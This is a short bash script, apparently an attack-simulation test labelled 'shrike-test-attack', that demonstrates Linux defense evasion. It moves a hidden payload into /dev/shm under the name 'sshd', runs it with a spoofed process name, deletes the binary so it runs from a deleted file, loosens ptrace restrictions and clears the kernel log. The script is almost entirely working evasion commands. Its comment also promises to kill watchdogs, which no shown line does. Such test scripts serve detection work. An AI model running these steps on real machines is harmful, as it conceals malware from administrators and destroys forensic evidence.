#!/bin/bash
# shrike-test-attack: defense-evasion: run payload from deleted file with process name spoofing and kill watchdogs
cp /tmp/.p /dev/shm/sshd && rm -f /tmp/.p
cd /dev/shm && exec -a "/usr/sbin/sshd -D" ./sshd &
sleep 1; rm -f /dev/shm/sshd
echo 0 > /proc/sys/kernel/yama/ptrace_scope 2>/dev/null
sysctl -w kernel.dmesg_restrict=1 >/dev/null 2>&1; dmesg -C 2>/dev/null
